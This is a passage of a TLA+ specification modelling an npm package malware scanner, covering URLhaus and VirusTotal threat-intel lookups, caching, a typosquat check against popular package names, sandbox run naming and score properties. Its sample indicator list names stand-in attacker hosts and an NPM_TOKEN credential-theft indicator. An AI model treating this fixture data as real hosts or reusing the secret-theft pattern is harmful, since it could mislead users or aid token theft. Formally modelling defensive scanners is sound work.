\* parts; threatMatch is absent (NoMatch) until enrichment sets it
NoMatch == [source |-> "", detail |-> ""]

IntelIOC(type, value, file, line) ==
  [type |-> type, value |-> value, context |-> <<file, line>>,
   threatMatch |-> NoMatch]

\* the IOCs of a scanned package, all distinct by (type, value)
IocPool ==
  << IntelIOC("domain", "Evil.Example", "index.js", 5),
     IntelIOC("url", "HTTP://CDN.Example/a.js", "index.js", 9),
     IntelIOC("env-var", "NPM_TOKEN", "lib/a.js", 2),
     IntelIOC("ip", "10.0.0.1", "lib/a.js", 7),
     IntelIOC("url", "http://Evil.Example/x", "lib/b.js", 1),
     IntelIOC("wallet-eth", "0xAb5801a7D398351b8bE11C439e05C5B3259aeC9B",
              "lib/b.js", 3),
     IntelIOC("domain", "ok.example", "", 0) >>

RECURSIVE Restrict(_, _)
\* the elements of IocPool at the positions in S, in the pool's order
Restrict(S, k) ==
  IF k = 0 THEN <<>>
  ELSE IF k \in S THEN Append(Restrict(S, k - 1), IocPool[k])
  ELSE Restrict(S, k - 1)

IocLists == { Restrict(S, Len(IocPool)) : S \in SUBSET (1..Len(IocPool)) }

\* the three URLhaus tests of the loop body: the detail of the match, ""
\* when the database has no match for the IOC
BulkMatch(db, ioc) ==
  IF ioc.type = "domain" /\ toLowerCase(ioc.value) \in db.domains
  THEN "Known malicious domain"
  ELSE IF /\ ioc.type = "url"
          /\ \/ toLowerCase(ioc.value) \in db.urls
             \/ extractHost(toLowerCase(ioc.value)) \in db.domains
  THEN "Known malicious URL"
  ELSE IF ioc.type = "ip" /\ ioc.value \in db.domains
  THEN "Known malicious IP"
  ELSE ""

\* a type map that also sends the other IOC types to VirusTotal
vtType_any(type) ==
  CASE type = "ip" -> "ip_addresses"
    [] type = "url" -> "urls"
    [] OTHER -> "domains"

\* vtType, "null" for the IOC types that are not looked up
vtType(type) ==
  CASE type = "domain" -> "domains"
    [] type = "ip" -> "ip_addresses"
    [] type = "url" -> "urls"
    [] OTHER -> "null"

\* file and line of a threat-intel finding, from the IOC's context
ContextFile(ioc) == IF ioc.context[1] = "" THEN "unknown" ELSE ioc.context[1]
ContextLine(ioc) == ioc.context[2]

ThreatFinding(ioc, severity) ==
  Finding("threat-intel", severity, ContextFile(ioc), ContextLine(ioc),
          ioc.value)

\* what checkVirusTotal resolves to: the number of engines that flag the
\* IOC, 0 standing for null (no key, a status that is not ok, no stats, no
\* engine, an exception)
VTAnswers == {0, 2, 7}

\* time from the return of one checkThreatIntel call to the next call on the
\* same machine, in milliseconds: a second, and around one hour
Gaps == {1000, CACHE_MAX_AGE - 1, CACHE_MAX_AGE, CACHE_MAX_AGE + 1}

\* the IOC lists of the later scans
CacheProbes == { Restrict({1, 4}, Len(IocPool)) }

FreshCall(iocs) ==
  /\ tinput' = iocs
  /\ tiocs' = iocs
  /\ tidx' = 1
  /\ tfindings' = <<>>
  /\ tvt' = 0
  /\ tdb' = NoDB
  /\ tlog' = <<>>
  /\ tpc' = "called"

\* a first checkThreatIntel call in a new process on a machine without a
\* cache file
IntelInit ==
  /\ tnow = 0
  /\ tmem = NoDB
  /\ tdisk = NoDB
  /\ tfeed \in Feeds
  /\ tkey \in BOOLEAN
  /\ tinput \in IocLists
  /\ tiocs = tinput
  /\ tidx = 1
  /\ tfindings = <<>>
  /\ tvt = 0
  /\ tdb = NoDB
  /\ tlog = <<>>
  /\ tpc = "called"
  /\ tscans = 1
  /\ tlast = "none"
  /\ tfetches = 0

\* the same with the IOC list of the later scans and no VirusTotal key
CacheInit ==
  /\ tnow = 0
  /\ tmem = NoDB
  /\ tdisk = NoDB
  /\ tfeed \in Feeds
  /\ tkey = FALSE
  /\ tinput \in CacheProbes
  /\ tiocs = tinput
  /\ tidx = 1
  /\ tfindings = <<>>
  /\ tvt = 0
  /\ tdb = NoDB
  /\ tlog = <<>>
  /\ tpc = "called"
  /\ tscans = 1
  /\ tlast = "none"
  /\ tfetches = 0

IntelIdle ==
  /\ tnow = 0
  /\ tmem = NoDB
  /\ tdisk = NoDB
  /\ tfeed = FeedDown
  /\ tkey = FALSE
  /\ tinput = <<>>
  /\ tiocs = <<>>
  /\ tidx = 1
  /\ tfindings = <<>>
  /\ tvt = 0
  /\ tdb = NoDB
  /\ tlog = <<>>
  /\ tpc = "idle"
  /\ tscans = 0
  /\ tlast = "none"
  /\ tfetches = 0

\* getThreatDB up to its await: the cached database, the one on disk, or
\* the request to URLhaus is sent
GetThreatDB ==
  /\ tpc = "called"
  /\ IF MemoryFresh(tmem, tnow)
     THEN /\ tdb' = tmem
          /\ tpc' = "loop"
          /\ UNCHANGED <<tmem, tfetches>>
     ELSE LET fromDisk == loadCache(tdisk, tnow) IN
          IF fromDisk.present
          THEN /\ tmem' = fromDisk
               /\ tdb' = fromDisk
               /\ tpc' = "loop"
               /\ UNCHANGED tfetches
          ELSE /\ tpc' = "fetching"
               /\ tfetches' = tfetches + 1
               /\ UNCHANGED <<tmem, tdb>>
  /\ UNCHANGED <<tnow, tdisk, tfeed, tkey, tinput, tiocs, tidx, tfindings,
                 tvt, tlog, tscans, tlast>>
  /\ UNCHANGED exceptIntel

\* getThreatDB after `await fetchURLhaus()`: build, saveCache, cachedDB = db
FetchSettles ==
  /\ tpc = "fetching"
  /\ LET db == BuildDB(fetchURLhaus(tfeed), tnow) IN
       /\ tdisk' = db
       /\ tmem' = db
       /\ tdb' = db
  /\ tlast' = IF tfeed.ok THEN "ok" ELSE "failed"
  /\ tpc' = "loop"
  /\ UNCHANGED <<tnow, tfeed, tkey, tinput, tiocs, tidx, tfindings, tvt,
                 tlog, tscans, tfetches>>
  /\ UNCHANGED exceptIntel

Decorate(iocs, k, source, detail) ==
  [iocs EXCEPT ![k].threatMatch = [source |-> source, detail |-> detail]]

\* one turn of the loop up to its await, or the return after the last IOC
LoopStep ==
  /\ tpc = "loop"
  /\ IF tidx > Len(tiocs)
     THEN /\ tpc' = "returned"
          /\ UNCHANGED <<tiocs, tidx, tfindings, tvt, tlog>>
     ELSE LET ioc == tiocs[tidx]
              detail == BulkMatch(tdb, ioc)
          IN  IF detail # ""
              THEN /\ tiocs' = Decorate(tiocs, tidx, "URLhaus", detail)
                   /\ tfindings' =
                        Append(tfindings, ThreatFinding(ioc, "critical"))
                   /\ tidx' = tidx + 1
                   /\ UNCHANGED <<tvt, tlog, tpc>>
              ELSE IF tkey /\ tvt < MAX_VT_CHECKS /\ vtType(ioc.type) # "null"
              THEN /\ tvt' = tvt + 1
                   /\ tlog' = Append(tlog, [at |-> tnow, ioc |-> tidx])
                   /\ tpc' = "lookup"
                   /\ UNCHANGED <<tiocs, tidx, tfindings>>
              ELSE /\ tidx' = tidx + 1
                   /\ UNCHANGED <<tiocs, tfindings, tvt, tlog, tpc>>
  /\ UNCHANGED <<tnow, tmem, tdisk, tfeed, tkey, tinput, tdb, tscans, tlast,
                 tfetches>>
  /\ UNCHANGED exceptIntel

\* `await checkVirusTotal(...)` resolves: the finding if flagged, then the
\* throttle timer is set unless the cap is reached
LookupSettles(malicious) ==
  /\ tpc = "lookup"
  /\ IF malicious > 0
     THEN /\ tiocs' = Decorate(tiocs, tidx, "VirusTotal", "VirusTotal engines")
          /\ tfindings' =
               Append(tfindings,
                      ThreatFinding(tiocs[tidx],
                                    IF malicious >= 5 THEN "critical"
                                    ELSE "danger"))
     ELSE UNCHANGED <<tiocs, tfindings>>
  /\ IF tvt < MAX_VT_CHECKS
     THEN /\ tpc' = "delay"
          /\ UNCHANGED tidx
     ELSE /\ tpc' = "loop"
          /\ tidx' = tidx + 1
  /\ UNCHANGED <<tnow, tmem, tdisk, tfeed, tkey, tinput, tvt, tdb, tlog,
                 tscans, tlast, tfetches>>
  /\ UNCHANGED exceptIntel

\* the setTimeout(r, VT_RATE_DELAY) of the throttle fires
DelayElapses ==
  /\ tpc = "delay"
  /\ tnow' = tnow + VT_RATE_DELAY
  /\ tidx' = tidx + 1
  /\ tpc' = "loop"
  /\ UNCHANGED <<tmem, tdisk, tfeed, tkey, tinput, tiocs, tfindings, tvt,
                 tdb, tlog, tscans, tlast, tfetches>>
  /\ UNCHANGED exceptIntel

\* the next scan calls checkThreatIntel: gap milliseconds later, in the same
\* process or in a new one (cachedDB is null again), with the endpoint up or
\* down
NextScan(gap, restart, feed, iocs) ==
  /\ tpc = "returned"
  /\ tscans < MaxScans
  /\ tscans' = tscans + 1
  /\ tnow' = tnow + gap
  /\ tmem' = IF restart THEN NoDB ELSE tmem
  /\ tfeed' = feed
  /\ FreshCall(iocs)
  /\ UNCHANGED <<tdisk, tkey, tlast, tfetches>>
  /\ UNCHANGED exceptIntel

----------------------------------------------------------------------------
\* Typosquat check of analyzeMetadata

\* popular packages for typosquat comparison
POPULAR ==
  <<"express", "react", "vue", "angular", "lodash", "axios", "chalk",
     "commander", "debug", "moment", "webpack", "babel", "eslint",
     "typescript", "next", "nuxt", "jest", "mocha", "prettier", "underscore",
     "request", "bluebird", "async", "rxjs", "dayjs", "dotenv", "cors",
     "uuid", "mongoose", "sequelize", "passport", "jsonwebtoken", "bcrypt",
     "nodemailer", "socket.io", "redis", "pg", "mysql2", "puppeteer",
     "cheerio", "yargs", "inquirer", "ora", "boxen", "glob", "rimraf",
     "mkdirp", "semver", "colors", "faker", "ethers", "web3", "hardhat",
     "truffle" >>

\* names of scanned packages that are not on the list: none, one and two
\* edits away from a listed name, and far from all of them
OtherNames ==
  { "", "expres", "axois", "lodahs", "reactjs", "left-pad", "unsus", "nxt" }

\* the UTF-16 code units of a name, as s[i] reads them
Chars(s) ==
  CASE s = "express" -> << "e", "x", "p", "r", "e", "s", "s" >>
    [] s = "react" -> << "r", "e", "a", "c", "t" >>
    [] s = "vue" -> << "v", "u", "e" >>
    [] s = "angular" -> << "a", "n", "g", "u", "l", "a", "r" >>
    [] s = "lodash" -> << "l", "o", "d", "a", "s", "h" >>
    [] s = "axios" -> << "a", "x", "i", "o", "s" >>
    [] s = "chalk" -> << "c", "h", "a", "l", "k" >>
    [] s = "commander" -> << "c", "o", "m", "m", "a", "n", "d", "e", "r" >>
    [] s = "debug" -> << "d", "e", "b", "u", "g" >>
    [] s = "moment" -> << "m", "o", "m", "e", "n", "t" >>
    [] s = "webpack" -> << "w", "e", "b", "p", "a", "c", "k" >>
    [] s = "babel" -> << "b", "a", "b", "e", "l" >>
    [] s = "eslint" -> << "e", "s", "l", "i", "n", "t" >>
    [] s = "typescript" -> << "t", "y", "p", "e", "s", "c", "r", "i", "p", "t" >>
    [] s = "next" -> << "n", "e", "x", "t" >>
    [] s = "nuxt" -> << "n", "u", "x", "t" >>
    [] s = "jest" -> << "j", "e", "s", "t" >>
    [] s = "mocha" -> << "m", "o", "c", "h", "a" >>
    [] s = "prettier" -> << "p", "r", "e", "t", "t", "i", "e", "r" >>
    [] s = "underscore" -> << "u", "n", "d", "e", "r", "s", "c", "o", "r", "e" >>
    [] s = "request" -> << "r", "e", "q", "u", "e", "s", "t" >>
    [] s = "bluebird" -> << "b", "l", "u", "e", "b", "i", "r", "d" >>
    [] s = "async" -> << "a", "s", "y", "n", "c" >>
    [] s = "rxjs" -> << "r", "x", "j", "s" >>
    [] s = "dayjs" -> << "d", "a", "y", "j", "s" >>
    [] s = "dotenv" -> << "d", "o", "t", "e", "n", "v" >>
    [] s = "cors" -> << "c", "o", "r", "s" >>
    [] s = "uuid" -> << "u", "u", "i", "d" >>
    [] s = "mongoose" -> << "m", "o", "n", "g", "o", "o", "s", "e" >>
    [] s = "sequelize" -> << "s", "e", "q", "u", "e", "l", "i", "z", "e" >>
    [] s = "passport" -> << "p", "a", "s", "s", "p", "o", "r", "t" >>
    [] s = "jsonwebtoken" -> << "j", "s", "o", "n", "w", "e", "b", "t", "o", "k", "e", "n" >>
    [] s = "bcrypt" -> << "b", "c", "r", "y", "p", "t" >>
    [] s = "nodemailer" -> << "n", "o", "d", "e", "m", "a", "i", "l", "e", "r" >>
    [] s = "socket.io" -> << "s", "o", "c", "k", "e", "t", ".", "i", "o" >>
    [] s = "redis" -> << "r", "e", "d", "i", "s" >>
    [] s = "pg" -> << "p", "g" >>
    [] s = "mysql2" -> << "m", "y", "s", "q", "l", "2" >>
    [] s = "puppeteer" -> << "p", "u", "p", "p", "e", "t", "e", "e", "r" >>
    [] s = "cheerio" -> << "c", "h", "e", "e", "r", "i", "o" >>
    [] s = "yargs" -> << "y", "a", "r", "g", "s" >>
    [] s = "inquirer" -> << "i", "n", "q", "u", "i", "r", "e", "r" >>
    [] s = "ora" -> << "o", "r", "a" >>
    [] s = "boxen" -> << "b", "o", "x", "e", "n" >>
    [] s = "glob" -> << "g", "l", "o", "b" >>
    [] s = "rimraf" -> << "r", "i", "m", "r", "a", "f" >>
    [] s = "mkdirp" -> << "m", "k", "d", "i", "r", "p" >>
    [] s = "semver" -> << "s", "e", "m", "v", "e", "r" >>
    [] s = "colors" -> << "c", "o", "l", "o", "r", "s" >>
    [] s = "faker" -> << "f", "a", "k", "e", "r" >>
    [] s = "ethers" -> << "e", "t", "h", "e", "r", "s" >>
    [] s = "web3" -> << "w", "e", "b", "3" >>
    [] s = "hardhat" -> << "h", "a", "r", "d", "h", "a", "t" >>
    [] s = "truffle" -> << "t", "r", "u", "f", "f", "l", "e" >>
    [] s = "expres" -> << "e", "x", "p", "r", "e", "s" >>
    [] s = "axois" -> << "a", "x", "o", "i", "s" >>
    [] s = "lodahs" -> << "l", "o", "d", "a", "h", "s" >>
    [] s = "reactjs" -> << "r", "e", "a", "c", "t", "j", "s" >>
    [] s = "left-pad" -> << "l", "e", "f", "t", "-", "p", "a", "d" >>
    [] s = "unsus" -> << "u", "n", "s", "u", "s" >>
    [] s = "nxt" -> << "n", "x", "t" >>
    [] OTHER -> <<>>

Min3(x, y, z) ==
  IF x <= y /\ x <= z THEN x ELSE IF y <= z THEN y ELSE z

RECURSIVE Cells(_, _, _, _, _)
\* the inner loop at j: row holds dp[i][0..j-1], prev is dp[i-1][0..n] and
\* ai is a[i-1]; yields dp[i][0..n] (a cell is a distance, never negative)
Cells(prev, ai, b, row, j) ==
  IF j > Len(b) THEN row
  ELSE LET cell == IF ai = b[j] THEN prev[j]
                   ELSE 1 + Min3(prev[j + 1], row[j], prev[j])
       IN  IF cell >= 0 THEN Cells(prev, ai, b, Append(row, cell), j + 1)
           ELSE row

RECURSIVE Rows(_, _, _, _)
\* the outer loop at i: prev holds dp[i-1][0..n]; yields dp[m][0..n] (all
\* rows have n + 1 cells)
Rows(a, b, prev, i) ==
  IF i > Len(a) THEN prev
  ELSE LET row == Cells(prev, a[i], b, << i >>, 1) IN
       IF Len(row) = Len(prev) THEN Rows(a, b, row, i + 1) ELSE prev

levenshtein(a, b) ==
  LET n == Len(Chars(b)) IN
  Rows(Chars(a), Chars(b), [ j \in 1..(n + 1) |-> j - 1 ], 1)[n + 1]

\* the findings pushed by `for (const pop of POPULAR)`: one for each listed
\* name other than `name` at distance 1 or 2
TyposquatFindings(name) ==
  LET hits == { k \in 1..Len(POPULAR) :
                  /\ name # POPULAR[k]
                  /\ levenshtein(name, POPULAR[k]) > 0
                  /\ levenshtein(name, POPULAR[k]) <= 2 }
  IN  [ i \in 1..Cardinality(hits) |->
          Finding("typosquat", "danger", "package.json", 0, name) ]

TypoInit ==
  /\ yname \in { POPULAR[k] : k \in 1..Len(POPULAR) } \cup OtherNames
  /\ yfindings = <<>>
  /\ ypc = "input"

TypoIdle ==
  /\ yname = ""
  /\ yfindings = <<>>
  /\ ypc = "idle"

\* `const name = json.name; if (name) { ... }`
CheckName ==
  /\ ypc = "input"
  /\ yfindings' = IF yname = "" THEN <<>>
                  ELSE TyposquatFindings(yname)
  /\ ypc' = "done"
  /\ UNCHANGED yname
  /\ UNCHANGED exceptTypo

----------------------------------------------------------------------------
\* Names of the resources of overlapping sandbox runs

\* two invocations of runDynamic whose lifetimes overlap, in one process
\* (two requests) or in two
Invocations == {1, 2}

\* a template literal `${prefix}${Date.now()}`
Stamped(prefix, now) == <<prefix, now>>

Unset == <<"", 0>>

NoNames == [outDir |-> Unset, volName |-> Unset, fetchName |-> Unset,
            runName |-> Unset]

RunInit ==
  /\ rnow = 1
  /\ rpc = [r \in Invocations |-> "start"]
  /\ rname = [r \in Invocations |-> NoNames]
  /\ rdirs = {}
  /\ rvols = {}
  /\ rconts = {}

RunIdle ==
  /\ rnow = 0
  /\ rpc = [r \in Invocations |-> "idle"]
  /\ rname = [r \in Invocations |-> NoNames]
  /\ rdirs = {}
  /\ rvols = {}
  /\ rconts = {}

\* a millisecond passes
Millisecond ==
  /\ rnow > 0
  /\ rnow < MaxMillis
  /\ rnow' = rnow + 1
  /\ UNCHANGED <<rpc, rname, rdirs, rvols, rconts>>
  /\ UNCHANGED exceptRun

\* outDir = `/tmp/unsus-run-${Date.now()}`; mkdirSync(..., {recursive: true})
MakeOutDir(r) ==
  /\ rpc[r] = "start"
  /\ LET outDir == Stamped("/tmp/unsus-run-", rnow) IN
       /\ rname' = [rname EXCEPT ![r].outDir = outDir]
       /\ rdirs' = rdirs \cup {outDir}
  /\ rpc' = [rpc EXCEPT ![r] = "dir"]
  /\ UNCHANGED <<rnow, rvols, rconts>>
  /\ UNCHANGED exceptRun

\* volName = `unsus-ws-${Date.now()}`; docker volume create volName
CreateVolume(r) ==
  /\ rpc[r] = "dir"
  /\ LET volName == Stamped("unsus-ws-", rnow) IN
       /\ rname' = [rname EXCEPT ![r].volName = volName]
       /\ rvols' = rvols \cup {volName}
  /\ rpc' = [rpc EXCEPT ![r] = "volume"]
  /\ UNCHANGED <<rnow, rdirs, rconts>>
  /\ UNCHANGED exceptRun

\* docker run --name name: refused while a container of that name exists
DockerRun(name, r) ==
  IF \E c \in rconts : c[1] = name THEN rconts ELSE rconts \cup {<<name, r>>}

\* a container started with --rm is gone once it has exited
Exited(conts, name, r) == conts \ {<<name, r>>}

\* fetchName = `unsus-fetch-${Date.now()}`; Bun.spawn(docker run ...)
SpawnFetch(r) ==
  /\ rpc[r] = "volume"
  /\ LET fetchName == Stamped("unsus-fetch-", rnow) IN
       /\ rname' = [rname EXCEPT ![r].fetchName = fetchName]
       /\ rconts' = DockerRun(fetchName, r)
  /\ rpc' = [rpc EXCEPT ![r] = "fetch"]
  /\ UNCHANGED <<rnow, rdirs, rvols>>
  /\ UNCHANGED exceptRun

\* after `await fetchProc.exited`: runName = `unsus-run-${Date.now()}`;
\* Bun.spawn(docker run ...)
SpawnRun(r) ==
  /\ rpc[r] = "fetch"
  /\ LET runName == Stamped("unsus-run-", rnow)
         left == Exited(rconts, rname[r].fetchName, r)
     IN  /\ rname' = [rname EXCEPT ![r].runName = runName]
         /\ rconts' = IF \E c \in left : c[1] = runName THEN left
                      ELSE left \cup {<<runName, r>>}
  /\ rpc' = [rpc EXCEPT ![r] = "run"]
  /\ UNCHANGED <<rnow, rdirs, rvols>>
  /\ UNCHANGED exceptRun

\* after `await runProc.exited`: parseOutput, then the finally block:
\* docker volume rm -f volName; rmSync(outDir, {recursive, force})
RunFinished(r) ==
  /\ rpc[r] = "run"
  /\ rconts' = Exited(rconts, rname[r].runName, r)
  /\ rvols' = rvols \ {rname[r].volName}
  /\ rdirs' = rdirs \ {rname[r].outDir}
  /\ rpc' = [rpc EXCEPT ![r] = "done"]
  /\ UNCHANGED <<rnow, rname>>
  /\ UNCHANGED exceptRun

----------------------------------------------------------------------------
\* Specifications

ScoreNext == Score

InitScore == ScoreInit /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecScore == InitScore /\ [][ScoreNext]_vars

InitCompound == CompoundInit /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecCompound == InitCompound /\ [][ScoreNext]_vars

ScanNext == ScanStart \/ ScanCollect \/ ScanEnriched \/ ScanDynamicDone

InitScan == ScanInit /\ ScoreIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecScan == InitScan /\ [][ScanNext]_vars

MinNext == RunAST \/ RunEntropy

InitMin == MinInit /\ ScoreIdle /\ ScanIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecMin == InitMin /\ [][MinNext]_vars

InstallNext == InstallFetched \/ InstallScanned \/ InstallExited

InitInstall == InstallInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ DynIdle /\ XlatIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecInstall == InitInstall /\ [][InstallNext]_vars

DynNext ==
  \/ DynStart
  \/ \E r \in Roles : ContainerStep(r)
  \/ \E r \in Roles : HookNext(r)
  \/ \E r \in Roles : HookEnd(r)
  \/ \E r \in Roles : TimerFires(r)
  \/ DynFetchExited
  \/ DynRunExited

InitDyn == DynInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ XlatIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecDyn == InitDyn /\ [][DynNext]_vars

\* The orchestrator's own steps run on the event loop of its process: a
\* continuation whose promise has settled and a timer that is due are run.
\* Nothing is assumed about the steps inside the containers.
DynFairness ==
  /\ WF_vars(DynStart)
  /\ WF_vars(DynFetchExited)
  /\ WF_vars(DynRunExited)
  /\ \A r \in Roles : WF_vars(TimerFires(r))

SpecDynLive == InitDyn /\ [][DynNext]_vars /\ DynFairness

XlatNext == Translate

InitXlat ==
  XlatInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ IntelIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecXlat == InitXlat /\ [][XlatNext]_vars

IntelNext ==
  \/ GetThreatDB
  \/ FetchSettles
  \/ LoopStep
  \/ \E malicious \in VTAnswers : LookupSettles(malicious)
  \/ DelayElapses

InitIntel ==
  IntelInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecIntel == InitIntel /\ [][IntelNext]_vars

CacheNext ==
  \/ GetThreatDB
  \/ FetchSettles
  \/ LoopStep
  \/ \E gap \in Gaps, restart \in BOOLEAN, feed \in Feeds, iocs \in CacheProbes :
       NextScan(gap, restart, feed, iocs)

InitCache ==
  CacheInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecCache == InitCache /\ [][CacheNext]_vars

TypoNext == CheckName

InitTypo ==
  TypoInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle
    /\ IntelIdle /\ RunIdle /\ CmdIdle

SpecTypo == InitTypo /\ [][TypoNext]_vars

RunNext ==
  \/ Millisecond
  \/ \E r \in Invocations : MakeOutDir(r)
  \/ \E r \in Invocations : CreateVolume(r)
  \/ \E r \in Invocations : SpawnFetch(r)
  \/ \E r \in Invocations : SpawnRun(r)
  \/ \E r \in Invocations : RunFinished(r)

InitRun ==
  RunInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle
    /\ IntelIdle /\ TypoIdle /\ CmdIdle

SpecRun == InitRun /\ [][RunNext]_vars

CmdNext == CmdFetched \/ CmdScanned

InitCmd ==
  CmdInit /\ ScoreIdle /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle
    /\ IntelIdle /\ TypoIdle /\ RunIdle

SpecCmd == InitCmd /\ [][CmdNext]_vars

OrderNext == ScoreDouble

InitOrder ==
  OrderInit /\ ScanIdle /\ MinIdle /\ InstallIdle /\ DynIdle /\ XlatIdle /\ IntelIdle
    /\ TypoIdle /\ RunIdle /\ CmdIdle

SpecOrder == InitOrder /\ [][OrderNext]_vars

----------------------------------------------------------------------------
\* Properties of the scoring engine (checked under SpecScore)

\* sfindings without its i-th element
RemoveAt(findings, i) ==
  [ j \in 1..(Len(findings) - 1) |->
      IF j < i THEN findings[j] ELSE findings[j + 1] ]

\* findings with every finding of type t retyped to u
Retype(findings, t, u) ==
  [ j \in 1..Len(findings) |->
      IF findings[j].type = t
      THEN [findings[j] EXCEPT !.type = u] ELSE findings[j] ]

\* indices of the compound rules that hold on a finding list
RulesHolding(findings) ==
  LET rules == CompoundRules(TypesOf(findings))
  IN  { k \in 1..8 : rules[k][1] }

\* what the k-th finding added to the running total in the additive pass
Contribution(findings, k) ==
  AdditivePass(findings, k) - AdditivePass(findings, k - 1)

\* C6: every score calcScore returns lies in [0, 10] and is a whole number
\* of tenths (scores are in hundredths, so a multiple of 10).
C6_ScoreInRangeOneDecimal ==
  spc = "scored" => /\ sscore >= 0
                    /\ sscore <= 1000
                    /\ sscore % 10 = 0

\* C6 witness: a scored list whose running total exceeds 10, so the clamp acted
C6_Witness ==
  /\ spc = "scored"
  /\ \E t \in RoundTenths(RunningTotal(sfindings)) : t > 100
  /\ sscore = 1000

\* C8 as stated: a list with an install-script and a network finding scores
\* strictly higher than the same list with that network finding removed.
C8_NetworkStrictlyRaises ==
  spc = "scored" =>
    \A i \in 1..Len(sfindings) :
      (sfindings[i].type = "network" /\ "install-script" \in TypesOf(sfindings))
        => \A b \in calcScore(RemoveAt(sfindings, i)) : sscore > b

\* C8 amended: the score is strictly higher whenever the list without the
\* network finding scores below 10; when that list already scores 10 both
\* scores are the clamped 10.
C8_NetworkRaisesBelowClamp ==
  spc = "scored" =>
    \A i \in 1..Len(sfindings) :
      (sfindings[i].type = "network" /\ "install-script" \in TypesOf(sfindings))
        => \A b \in calcScore(RemoveAt(sfindings, i)) :
             /\ b < 1000 => sscore > b
             /\ b = 1000 => sscore = 1000

\* C8 witness: install-script and network both present, scored below the clamp
C8_Witness ==
  /\ spc = "scored"
  /\ "install-script" \in TypesOf(sfindings)
  /\ "network" \in TypesOf(sfindings)
  /\ "exec" \notin TypesOf(sfindings)
  /\ sscore < 1000

\* C9: adding a finding never lowers the score, and a list on which more
\* compound rules hold never scores lower than the same severities in the
\* same order with those rules switched off (trigger type retyped to a type
\* no rule names).
C9_MonotoneInEvidence ==
  spc = "scored" =>
    /\ Len(sfindings) > 0 =>
         \A b \in calcScore(RemoveAt(sfindings, Len(sfindings))) : sscore >= b
    /\ \A t \in TypesOf(sfindings) :
         LET g == Retype(sfindings, t, "eval") IN
         RulesHolding(g) # RulesHolding(sfindings)
           => \A b \in calcScore(g) : sscore >= b

\* C9 witness: a scored list on which a compound rule holds
C9_Witness ==
  /\ spc = "scored"
  /\ Len(sfindings) >= 2
  /\ RulesHolding(sfindings) # {}
  /\ sscore < 1000

\* C10: within critical, danger and warning a later occurrence never adds
\* more than an earlier one of the same severity, occurrences past the end
\* of the weight table all add the same tail value, and three identical
\* critical findings score strictly less than three times one of them alone.
C10_DiminishingReturns ==
  LET n == Len(sfindings) IN
  spc = "scored" =>
    /\ \A i, j \in 1..n :
         (i < j /\ sfindings[i].severity = sfindings[j].severity
                /\ sfindings[i].severity # "info")
           => Contribution(sfindings, j) <= Contribution(sfindings, i)
    /\ \A i, j \in 1..n :
         LET sev == sfindings[i].severity IN
         (sev = sfindings[j].severity /\ sev # "info"
            /\ SeenBefore(sfindings, i) >= Len(WEIGHTS[sev])
            /\ SeenBefore(sfindings, j) >= Len(WEIGHTS[sev]))
           => Contribution(sfindings, i) = Contribution(sfindings, j)
    /\ (n = 3 /\ sfindings[1].severity = "critical"
              /\ sfindings[2] = sfindings[1] /\ sfindings[3] = sfindings[1])
         => \A one \in calcScore(<<sfindings[1]>>) : sscore < 3 * one

\* C10 witness: three identical critical findings have been scored
C10_Witness ==
  /\ spc = "scored"
  /\ Len(sfindings) = 3
  /\ sfindings[1].severity = "critical"
  /\ sfindings[2] = sfindings[1]
  /\ sfindings[3] = sfindings[1]

\* the rules that hold on a list
HoldingRules(findings) ==
  { k \in 1..8 : CompoundRules(TypesOf(findings))[k][1] }

\* x * y for fractions in lowest terms, cancelling before multiplying
MulFrac(x, y) ==
  LET g1 == Gcd(x.num, y.den)
      g2 == Gcd(y.num, x.den)
  IN  IF x.num = 0 \/ y.num = 0 THEN [num |-> 0, den |-> 1]
      ELSE [num |-> (x.num \div g1) * (y.num \div g2),
            den |-> (x.den \div g2) * (y.den \div g1)]

RECURSIVE MultiplierProduct(_, _)
\* the product of the multipliers of the rules in K, each taken once
MultiplierProduct(types, K) ==
  IF K = {} THEN [num |-> 1, den |-> 1]
  ELSE LET k == CHOOSE j \in K : \A i \in K : j >= i IN
       MulFrac(Reduce(CompoundRules(types)[k][2], 10),
               MultiplierProduct(types, K \ {k}))

\* the additive total times the product of the multipliers that hold
CompoundedTotal(findings) ==
  MulFrac(Reduce(AdditivePass(findings, Len(findings)), 100),
          MultiplierProduct(TypesOf(findings), HoldingRules(findings)))

\* C11 (under SpecCompound): the pre-clamp score is the additive total
\* multiplied by the product of the multipliers of the rules that hold, each
\* once however many findings of a type there are, and the returned score is
\* that value rounded and clamped.
C11_MultipliersCompound ==
  /\ RunningTotal(sfindings) = CompoundedTotal(sfindings)
  /\ spc = "scored" =>
       sscore \in { 10 * ClampTen(t) :
                      t \in RoundTenths(CompoundedTotal(sfindings)) }

\* a scored list on which two rules hold, with two findings of each type,
\* whose score stays below the clamp
C11_Witness ==
  /\ spc = "scored"
  /\ Cardinality(HoldingRules(sfindings)) >= 2
  /\ \E i, j \in 1..Len(sfindings) : i # j /\ sfindings[i] = sfindings[j]
  /\ sscore < 1000

----------------------------------------------------------------------------
